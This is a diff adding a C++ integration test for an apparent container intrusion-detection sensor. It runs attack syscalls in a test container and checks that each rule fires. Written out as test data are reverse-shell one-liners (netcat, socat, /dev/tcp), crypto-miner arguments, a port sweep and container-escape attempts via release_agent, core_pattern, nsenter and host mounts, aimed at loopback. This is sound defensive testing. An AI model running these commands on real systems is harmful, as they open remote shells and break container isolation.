@@ -1,0 +1,88 @@
+// The shipped rules on the real kernel: one real runc container makes the
+// syscalls each attack makes (renamed binaries and failed attempts
+// included), and every rule a container can set off must give a verdict
+// with the container's id. Benign look-alikes run in the same container and
+// must give none. (fileless_exec and shell_spawned_by_network_tool need a
+// memfd loader or a forking netcat, which busybox lacks: unit-tested only.)
+#include <sys/stat.h>
+
+#include <fstream>
+#include <set>
+
+#include "harness.h"
+
+using namespace crowsnest;
+using namespace crowsnest::test;
+
+TEST_CASE("shipped rules: each fires from real syscalls in a container, benign look-alikes do not",
+          "[integration][rules]") {
+    char dir[] = "/tmp/crowsnest-rules-XXXXXX";
+    REQUIRE(mkdtemp(dir));
+    const std::string host_dir = dir, logs = host_dir + "/containers", feed = host_dir + "/feed.yaml";
+    REQUIRE(run_shell("mkdir -p " + logs + "/abc && echo '{\"log\":\"token=x\"}' > " + logs + "/abc/abc-json.log") == 0);
+    // a user file appends a pool address to the shipped (empty) list
+    std::ofstream(feed) << "- list: miner_pool_networks\n  items: [127.0.0.2/32]\n  append: true\n";
+
+    SensorProcess sensor;
+    START_SENSOR(sensor, "--rules", CROWSNEST_DEFAULT_RULES, "--rules", feed);
+    const std::string id = random_container_id();
+    RuncContainer c;
+    START_CONTAINER(c, (ContainerSpec{.cgroups_path = docker_path(id),
+                                      .extra_links = {"socat", "nsenter", "mount"},
+                                      .rw_binds = {{logs, "/host/var/lib/docker/containers"}}}));
+    const std::string closed = std::to_string(unused_loopback_port());
+
+    // benign look-alikes first, each marked "nearmiss" in its arguments
+    c.run({"/bin/ls", "-a", "/tmp", "/nearmiss"});
+    c.run({"/bin/cat", "/etc/passwd", "/proc/sys/vm/nr_hugepages", "/nearmiss"});
+    c.run({"/bin/grep", "-e", "nearmiss", "/etc/passwd"});
+    c.run({"/bin/sh", "-c", "echo nearmiss </dev/null; test -e /dev/tcp/127.0.0.1/80"});
+    c.run({"/bin/mount", "-t", "tmpfs", "nearmiss", "/mnt"});
+    c.exec("cat /host/var/lib/docker/containers/abc/nearmiss.json; true");
+
+    // miner: by arguments, whatever the program is called
+    c.run({"/bin/true", "-o", "stratum+tcp://pool.example.com:3333"});
+    c.run({"/bin/true", "-o", "pool.supportxmr.com:443"});
+    c.run({"/bin/true", "--donate-level=1"});
+    c.run({"/bin/true", "-a", "rx/0"});
+    c.exec("echo 1 > /dev/cpu/0/msr; echo 128 > /proc/sys/vm/nr_hugepages; true");
+    c.exec("nc -w 1 127.0.0.1 3333 </dev/null; nc -w 1 127.0.0.2 " + closed + " </dev/null; true");
+    // scanner: a sweep of one port over 40 loopback addresses, reverse shells
+    c.exec("for i in $(seq 1 40); do nc -w 1 127.0.0.$i " + closed + " </dev/null; done; true");
+    c.run({"/bin/nc", "-e", "/bin/sh", "127.0.0.1", closed});
+    c.run({"/bin/socat", "TCP:127.0.0.1:" + closed, "EXEC:/bin/sh"});
+    c.run({"/bin/sh", "-c", "sh -i >& /dev/tcp/127.0.0.1/" + closed + " 0>&1; true"});
+    // host mounts and escapes, as attempts that fail
+    c.exec("cat /host/var/lib/docker/containers/abc/abc-json.log; true");
+    c.exec("echo /tmp/x > /sys/fs/cgroup/release_agent; echo '|/tmp/x' > /proc/sys/kernel/core_pattern; true");
+    c.run({"/bin/nsenter", "-t", "1", "-m", "sh"});
+    c.run({"/bin/mount", "/dev/sda1", "/mnt"});
+    c.exec("cat /run/containerd/containerd.sock; true");
+    // drift: a copy of a program run from /tmp
+    c.exec("cp /bin/busybox /tmp/kworker && /tmp/kworker true; true");
+
+    const std::set<std::string> expected = {
+        "crypto_miner_stratum_args",   "crypto_miner_pool_domain_args", "crypto_miner_flags",
+        "crypto_miner_algorithm",      "crypto_miner_msr_write",        "hugepages_write_from_container",
+        "mining_pool_port_connect",    "mining_pool_address_connect",   "network_sweep",
+        "network_tool_in_container",   "reverse_shell_netcat",          "reverse_shell_socat",
+        "reverse_shell_dev_tcp",       "container_logs_read_from_container", "cgroup_release_agent_write",
+        "core_pattern_write",          "nsenter_in_container",          "host_disk_mount_in_container",
+        "runtime_socket_opened",       "drift_exec_from_writable_dir",
+    };
+    for (const auto &rule : expected) {
+        INFO(rule);
+        CHECK(sensor.wait_verdict([&](const v1::Verdict &v) { return v.rule() == rule && v.container().id() == id; },
+                                  nullptr, std::chrono::seconds(5)));
+    }
+    for (const auto &v : sensor.verdicts()) {
+        if (v.container().id() != id) continue;  // another test run may share the machine
+        CHECK(v.cgroup_id() == c.cgroup_id());
+        std::string args;
+        for (const auto &a : v.process().args()) args += a + " ";
+        INFO(v.rule() << ": " << args);
+        CHECK(args.find("nearmiss") == std::string::npos);
+        CHECK(v.event().path().find("nearmiss") == std::string::npos);
+    }
+    run_shell("rm -rf " + host_dir);
+}
